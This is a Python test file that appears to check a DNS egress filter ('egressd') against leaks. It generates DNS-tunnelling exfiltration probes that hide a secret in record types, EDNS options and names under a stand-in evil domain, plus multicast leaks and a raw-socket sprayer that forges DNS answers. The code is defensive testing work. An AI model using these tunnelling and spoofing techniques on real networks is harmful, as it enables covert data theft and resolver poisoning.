"""Everything that a question can carry besides a name: byte for byte, none of it leaves."""

import itertools
import json
import re
import struct
import subprocess

import pytest

from lab import dns_zone
from lab.dns_wire import encode_name
from lab.lab import ALLOWED, ALLOWED_V4, ALLOWED_V6, EVIL, EVIL_V4, UPSTREAM
from lab.waiting import wait_until

SECRET = "mzxw6ytboi7d4ztf2q5gs43jn4"
PLAIN_OPT = b"\0\0\x29\x04\xd0\0\0\0\0\0\0"


def question(name, kind=1, klass=1, flags=0x0100, counts=(1, 0, 0, 0), rest=b""):
    name = name if isinstance(name, bytes) else encode_name(name)
    return (struct.pack("!6H", 0x4242, flags, *counts) + name + struct.pack("!HH", kind, klass)
            + rest)


def opt(options=b"", size=1232, ttl=0):
    return b"\0" + struct.pack("!HHIH", 41, size, ttl, len(options)) + options


def option(code, data):
    return struct.pack("!HH", code, len(data)) + data


def with_opt(name, **fields):
    return question(name, counts=(1, 0, 0, 1), rest=opt(**fields))


def wires(name):
    """Questions for a name in every form that could hold a few bits more."""
    secret = SECRET.encode()
    for kind in (0, 1, 2, 5, 6, 10, 12, 13, 15, 16, 28, 33, 35, 39, 41, 43, 46, 48, 52, 64, 65, 99,
                 249, 250, 251, 252, 253, 254, 255, 256, 257, 32768, 65280, 65535):
        yield question(name, kind)
    for kind, klass in itertools.product((1, 16, 255), (0, 2, 3, 4, 254, 255, 256, 65535)):
        yield question(name, kind, klass)
    for opcode in range(1, 16):  # STATUS, NOTIFY, UPDATE, DSO and unknown ones
        yield question(name, flags=opcode << 11 | 0x0100)
    for bit in (0x0000, 0x0400, 0x0200, 0x0080, 0x0040, 0x0020, 0x0010, 0x000f, 0x07ff, 0x8100):
        yield question(name, flags=bit)
    for data in (option(8, b"\0\1\x18\0" + b"\xc6\x33\x64"), option(10, secret[:8]),
                 option(10, secret[:24]), option(12, secret), option(65001, secret),
                 option(3, secret), option(5, secret), option(15, b"\0\0" + secret)):
        yield with_opt(name, options=data)
    for ttl in (0x8000, 0x7fff, 0x00010000, 0xff000000):  # DO, Z, version 1, extended code
        yield with_opt(name, ttl=ttl)
    for size in (0, 511, 4096, 65535):
        yield with_opt(name, size=size)
    yield question(name, rest=secret)  # behind the end
    yield question(name, counts=(1, 1, 0, 0), rest=b"\xc0\x0c" + struct.pack(
        "!HHIH", 16, 1, 60, len(secret)) + secret)
    yield question(name, counts=(1, 0, 0, 1), rest=encode_name(f"{SECRET}.test") + struct.pack(
        "!HHIH", 250, 255, 0, len(secret)) + secret)  # TSIG
    yield question(name, counts=(2, 0, 0, 0), rest=encode_name(f"{SECRET}.test") + b"\0\1\0\1")


def send_all(container, messages, server=UPSTREAM):
    """By UDP and by TCP; who answers what does not matter."""
    sender = ("import socket, struct, sys\n"
              "wires = [bytes.fromhex(line) for line in sys.stdin]\n"
              "udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
              f"udp.connect(({server!r}, 53)); udp.settimeout(0.02)\n"
              "for wire in wires:\n"
              "    udp.send(wire)\n"
              "    try: udp.recv(4096)\n"
              "    except OSError: pass\n"
              f"    with socket.create_connection(({server!r}, 53), 60) as tcp:\n"
              "        tcp.settimeout(0.02)\n"
              "        tcp.sendall(struct.pack('!H', len(wire)) + wire)\n"
              "        try: tcp.recv(4096)\n"
              "        except OSError: pass\n")
    container.run(["/usr/bin/python3", "-I", "-c", sender], uid=1000, timeout=600,
                  stdin="".join(wire.hex() + "\n" for wire in messages))


def left(lab):
    """The bytes of every message that left for port 53."""
    found = []
    for packet in lab.witness.packets(port=53):
        if packet.payload:
            found.append(packet.payload if packet.protocol == "udp" else packet.payload[2:])
    return found


def is_our_own(wire, name):
    """What egressd asks: one A or AAAA, class IN, RD, and an OPT with nothing in it."""
    head, rest = wire[2:12], wire[12:]
    size = len(encode_name(name))
    return (head in (b"\1\0\0\1\0\0\0\0\0\1", b"\1\0\0\1\0\0\0\0\0\0")
            and rest[:size].lower() == encode_name(name)
            and rest[size:size + 4] in (b"\0\1\0\1", b"\0\x1c\0\1")
            and rest[size + 4:] == (PLAIN_OPT if head[-1] else b""))


@pytest.mark.leak("L7", "H20", "H28")
def test_only_our_own_questions_leave_byte_for_byte(lab, container, zone):
    zone.host(ALLOWED, ALLOWED_V4, ALLOWED_V6, ttl=0)
    send_all(container, wires(ALLOWED))
    assert any(SECRET.encode() in wire for wire in left(lab)), "with egressd off it all leaves"
    egressd = lab.egressd(allow=[ALLOWED])
    lab.forget()
    send_all(container, wires(ALLOWED))
    seen = left(lab)
    assert len(seen) > 10
    assert not [wire for wire in seen if not is_our_own(wire, ALLOWED)]
    assert not lab.strays([ALLOWED])
    assert egressd.leased() == {ALLOWED_V4, ALLOWED_V6}


@pytest.mark.leak("L3", "L7", "H20", "H32")
@pytest.mark.parametrize("server", [UPSTREAM, EVIL_V4])
def test_nothing_about_a_refused_name_leaves(lab, container, server):
    name = f"{SECRET}.{EVIL}"
    send_all(container, wires(name), server)
    assert any(SECRET.encode() in wire for wire in left(lab))
    lab.egressd(allow=[ALLOWED])
    lab.forget()
    send_all(container, wires(name), server)
    assert not lab.strays([ALLOWED])
    assert not [wire for wire in left(lab) if not is_our_own(wire, ALLOWED)]


@pytest.mark.leak("L7", "H25", "H26")
def test_names_of_every_shape(lab, container, zone):
    """The longest, the deepest, and bytes that no host name has."""
    zone.host("*.wide.test", ALLOWED_V4)
    deepest = ".".join(["x"] * 122) + ".wide.test"
    longest = ".".join(["y" * 63, "y" * 63, "y" * 63, "y" * 51]) + ".wide.test"
    odd = [b"\x03a\0b", b"\x03a.b", b"\x03a b", b"\x03a\xffb", b"\x03a@b", b"\x03a\\b", b"\x03a*b",
           b"\x01*", b"\x03a\x0ab"]
    tail = encode_name("wide.test")
    lab.egressd(allow=[{"host": "*.wide.test", "names": 100}])
    for name in (deepest, longest):
        assert container.dig(name, wire=question(name)).addresses == [ALLOWED_V4]
    for label in odd:
        answer = container.agent().call("ask", wire=question(label + tail).hex(), server=UPSTREAM,
                                        port=53, timeout=2)
        assert answer and bytes.fromhex(answer.reply)[3] & 15 == 3, label
    assert {asked.lower for asked in lab.dns.questions()} == {deepest, longest}
    assert not lab.dns.unreadable


@pytest.mark.leak("H19")
def test_an_alias_of_a_service_is_not_followed(lab, container, zone):
    """SVCB of priority 0 points to another name: neither told nor asked for."""
    for kind in ("HTTPS", "SVCB"):
        zone.record(ALLOWED, kind, struct.pack("!H", 0) + encode_name(EVIL))
        assert container.dig(ALLOWED, kind).records
    egressd = lab.egressd(allow=[ALLOWED])
    egressd.wait_leased(ALLOWED_V4)
    lab.forget()
    for kind in ("HTTPS", "SVCB"):
        answer = container.dig(ALLOWED, kind, edns=0)
        assert (answer.rcode, answer.records) == ("NOERROR", [])
    assert {asked.lower for asked in lab.dns.questions()} <= {ALLOWED}
    assert not lab.strays([ALLOWED])
    assert EVIL_V4 not in egressd.leased()


# Other people's resolvers

FORWARDER = """
import socket, sys
listen, port, upstream, upstream_port = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
family = socket.AF_INET6 if ":" in listen else socket.AF_INET
inside = socket.socket(family, socket.SOCK_DGRAM)
inside.bind((listen, port))
print("ready", flush=True)
while True:
    wire, client = inside.recvfrom(4096)
    try:
        outside = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        outside.settimeout(5)
        outside.connect((upstream, upstream_port))
        outside.send(wire)
        inside.sendto(outside.recv(4096), client)
    except OSError:
        pass
"""


@pytest.fixture
def forwarder(container):
    """A resolver that somebody else runs in here, as root: it passes on what it is asked."""
    started = []

    def start(listen, port, upstream=UPSTREAM, upstream_port=53):
        process = subprocess.Popen(
            container.command(["/usr/bin/python3", "-I", "-c", FORWARDER, listen, port, upstream,
                               upstream_port]), stdout=subprocess.PIPE)
        started.append(process)
        assert process.stdout.readline() == b"ready\n"

    yield start
    for process in started:
        process.kill()  # of nsenter; what it runs ends with the machine
        process.stdout.close()
        process.wait()


OTHERS = [("127.0.0.53", 53), ("127.0.0.1", 53), ("::1", 53), ("127.0.0.53", 5454),
          ("127.0.0.1", 40053), ("::1", 8053), ("172.30.0.2", 5353)]


@pytest.mark.leak("L3", "H31")
def test_another_resolver_in_here_ends_at_the_gate(lab, container, forwarder):
    """systemd-resolved, dnsmasq and the like: on port 53 nobody reaches them, elsewhere what they
    ask is asked of the gate."""
    name = f"{SECRET}.{EVIL}"
    lab.zone.host(name, EVIL_V4)
    for listen, port in OTHERS:
        forwarder(listen, port)
        assert container.dig(name, server=listen, port=port).addresses == [EVIL_V4]
    egressd = lab.egressd(allow=[ALLOWED])
    egressd.wait_leased(ALLOWED_V4)
    lab.forget()
    for listen, port in OTHERS:
        answer = container.dig(name, server=listen, port=port)
        assert answer.rcode == "NXDOMAIN", (listen, port)
        answer = container.dig(ALLOWED, server=listen, port=port)
        assert answer.addresses == [ALLOWED_V4], (listen, port)
    assert not lab.strays([ALLOWED])
    assert {asked.lower for asked in lab.dns.questions()} <= {ALLOWED}


@pytest.mark.leak("H31", "H32")
def test_another_resolver_has_no_other_way_out(lab, container, forwarder):
    """One that asks at a port of its own choice is refused like everybody."""
    forwarder("127.0.0.53", 5454, EVIL_V4, 8053)
    container.dig(EVIL, server="127.0.0.53", port=5454, timeout=1)
    wait_until(lambda: lab.witness.packets(destination=EVIL_V4, port=8053), "its question")
    lab.egressd(allow=[ALLOWED])
    lab.forget()
    assert not container.dig(EVIL, server="127.0.0.53", port=5454, timeout=1)
    assert not lab.strays([ALLOWED])


NEIGHBOURS = [("224.0.0.251", 5353), ("ff02::fb%eth0", 5353),  # mDNS
              ("224.0.0.252", 5355), ("ff02::1:3%eth0", 5355),  # LLMNR
              ("172.30.0.1", 5353), ("198.51.100.53", 5355), ("198.51.100.53", 8053),
              ("2001:db8:9::9", 8053), ("198.51.100.53", 137), ("255.255.255.255", 53)]
SHOUTER = """
import json, socket, sys
wire = bytes.fromhex(sys.argv[1])
for place in json.loads(sys.argv[2]):
    family, _, _, _, where = socket.getaddrinfo(*place, type=socket.SOCK_DGRAM)[0]
    with socket.socket(family, socket.SOCK_DGRAM) as shout:
        shout.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        try:
            shout.sendto(wire, where)
        except OSError:
            pass
"""


@pytest.mark.leak("H32")
def test_neighbours_are_not_asked_for_names(lab, container):
    """Multicast and odd ports: the question itself would be the message."""
    command = ["/usr/bin/python3", "-I", "-c", SHOUTER, question(f"{SECRET}.local").hex(),
               json.dumps(NEIGHBOURS)]

    def heard():
        container.run(command, uid=1000)
        return {(packet.destination, packet.port) for packet in lab.witness.packets()
                if SECRET.encode() in packet.payload}

    assert heard() == {(address.partition("%")[0], port) for address, port in NEIGHBOURS}
    lab.egressd(allow=[ALLOWED])
    lab.forget()
    assert not heard()
    assert not lab.strays([ALLOWED])


# Who answers for an upstream

SPRAYER = """
import os, socket, struct, sys, time
server, own, uid, name = sys.argv[1], sys.argv[2], sys.argv[3], bytes.fromhex(sys.argv[4])
speaker = sys.argv[6]
answer = b"\\x81\\x80\\0\\1\\0\\1\\0\\0\\0\\0" + name + b"\\0\\1\\0\\1\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\1\\0\\0\\4"
answer += bytes([203, 0, 113, 66])

def ports():
    return [int(line.split()[1].split(":")[1], 16) for line in open("/proc/net/udp")
            if line.split()[2].endswith(":0035") and line.split()[7] == uid]

raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) if os.getuid() == 0 else \\
    None
sent = 0
print("spraying", flush=True)
deadline = time.monotonic() + float(sys.argv[5])
while time.monotonic() < deadline:
    for port in ports():
        for identity in range(300):
            payload = os.urandom(2) + answer
            try:
                if raw:
                    udp = struct.pack("!4H", 53, port, 8 + len(payload), 0) + payload
                    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                                     socket.inet_aton(server), socket.inet_aton(own))
                    raw.sendto(ip + udp, (own, 0))
                else:
                    lie = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                    lie.bind((speaker, 53))
                    lie.sendto(payload, (own, port))
            except OSError:
                pass
            sent += 1
print(sent)
"""


def spray(container, uid, owner, seconds, own="172.30.0.2", speaker="172.30.0.2",
          name="guess.test"):
    """Forges answers for seconds to the questions that the user `owner` has under way."""
    sprayer = subprocess.Popen(
        container.command(["/usr/bin/python3", "-I", "-c", SPRAYER, UPSTREAM, own, owner,
                           encode_name(name).hex(), seconds, speaker], uid),
        stdout=subprocess.PIPE)
    assert sprayer.stdout.readline() == b"spraying\n"
    return sprayer


@pytest.mark.leak("H27")
@pytest.mark.parametrize("uid", [1000, None], ids=["nobody", "raw"])
def test_a_sprayer_in_here_guesses_in_vain(lab, container, zone, uid):
    """It reads the port in /proc and tries ids. Not one guess gets as far as us: as nobody it cannot
    speak for the upstream, and with CAP_NET_RAW the kernel knows whose flow it is."""
    zone.host("guess.test", ALLOWED_V4)
    if uid is None:
        zone.twist("guess.test", dns_zone.silence)
        flow = container.root.open(UPSTREAM, 53, udp=True)
        sprayer = spray(container, uid, owner=0, seconds=1)
        forged = flow.echo(question("guess.test"))
        assert bytes([203, 0, 113, 66]) in bytes.fromhex(forged.reply), "raw packets do forge"
        sprayer.communicate()
    zone.twist("guess.test", dns_zone.delay(0.7))
    egressd = lab.egressd(allow=["guess.test"])
    sprayer = spray(container, uid, owner=65053, seconds=3)
    answers = []
    while sprayer.poll() is None:
        egressd.reload({"allow": ["guess.test"]})  # asks anew
        answers.append(container.dig("guess.test"))
    assert int(sprayer.communicate()[0]) > 300, "no question was under way"
    assert answers and all(answer.addresses == [ALLOWED_V4] for answer in answers), answers
    assert egressd.leased() == {ALLOWED_V4}
    assert egressd.status()["counters"]["upstream_mismatches"] == 0
    assert container.connect(EVIL_V4, 443).error == "ECONNREFUSED"


@pytest.mark.leak("H27")
def test_nobody_in_here_speaks_for_dockers_resolver(lab, container, zone):
    """Its port 53 is free to be bound, because the kernel translates what is sent there; and names
    without a dot may lead to any address. Not one guess gets as far as us."""
    lab.docker_dns()
    zone.host("guess", ALLOWED_V4)
    zone.twist("guess", dns_zone.delay(0.7))
    egressd = lab.egressd(allow=["guess:443"])
    sprayer = spray(container, 1000, owner=65053, seconds=3, own="127.0.0.1",
                    speaker="127.0.0.11", name="guess")
    answers = []
    while sprayer.poll() is None:
        egressd.reload({"allow": ["guess:443"]})  # asks anew
        answers.append(container.dig("guess"))
    assert int(sprayer.communicate()[0]) > 300, "no question was under way"
    assert answers and all(answer.addresses == [ALLOWED_V4] for answer in answers), answers
    assert egressd.status()["counters"]["upstream_mismatches"] == 0
    assert egressd.leased() == {ALLOWED_V4}


@pytest.mark.leak("H27")
def test_few_wrong_answers_are_waited_for(lab, container, zone):
    """From outside they do come: after four of them the question is asked by TCP, where nobody can
    guess."""
    def lies(asked, reply):
        if asked.transport == "tcp":
            return reply
        forged = dns_zone.wrong_id(asked, reply)[0]
        copies = [forged.copy() for _ in range(20)]
        for number, copy in enumerate(copies):
            copy.id = (reply.id + 1 + number) & 0xffff
        reply.delay_s = 3
        return [*copies, reply]

    zone.twist(ALLOWED, lies)
    egressd = lab.egressd(allow=[ALLOWED])
    egressd.wait_leased(ALLOWED_V4, ALLOWED_V6)
    asked = lab.dns.questions(ALLOWED)
    assert {question.transport for question in asked} == {"udp", "tcp"}
    by_udp = sum(question.transport == "udp" for question in asked)
    assert 0 < egressd.status()["counters"]["upstream_mismatches"] <= 4 * by_udp
    assert egressd.leased() == {ALLOWED_V4, ALLOWED_V6}


@pytest.mark.leak("H29", "H30")
def test_many_starts_under_the_fire_of_a_server(lab, container, zone):
    """It sends all the time, on a flow that is older than the rules: never does the flow pass."""
    def for_seconds(asked, reply):
        copies = [reply.copy() for _ in range(500)]
        for number, copy in enumerate(copies):
            copy.delay_s = number * 0.005
        return copies

    zone.twist(EVIL, for_seconds)
    flow = container.open(UPSTREAM, 53, udp=True)
    egressd = lab.egressd(allow=[ALLOWED], start=False)
    for turn in range(6):
        wait_until(lambda: flow.echo(question(EVIL), timeout=0.2), "an open flow")
        egressd.start()
        lab.forget()
        for number in range(20):
            flow.send(question(f"x{turn}-{number}.{EVIL}"))
        assert not [asked for asked in lab.dns.log if asked.lower.startswith("x")], turn
        assert not [wire for wire in left(lab) if not is_our_own(wire, ALLOWED)], turn
        egressd.stop()
        for table in container.nft("list", "tables").splitlines():
            container.nft("delete", *table.split())


# What is left behind

@pytest.mark.leak("H55")
def test_the_log_tells_and_grows_little(lab, container, zone):
    """Names that are asked are nobody's business but the asker's; nor can they fill a disk."""
    zone.host("*.wide.test", ALLOWED_V4)
    egressd = lab.egressd(allow=[{"host": "*.wide.test", "names": 5}, ALLOWED])
    size = len(egressd.log())
    for number in range(300):
        container.dig(f"{SECRET}{number}.wide.test")
        container.dig(f"{SECRET}{number}.{EVIL}")
    odd = question(b"\x0c\x1b[31mx\n\rx\0xx" + encode_name(EVIL))
    container.agent().call("ask", wire=odd.hex(), server=UPSTREAM, port=53, timeout=2)
    log = egressd.log()
    assert SECRET not in log and EVIL not in log
    assert len(log) - size < 400, log
    assert not re.search(r"[^\x20-\x7e\n]", log)
    shown = json.dumps(egressd.status())
    assert EVIL not in shown, "what was refused is not kept either"
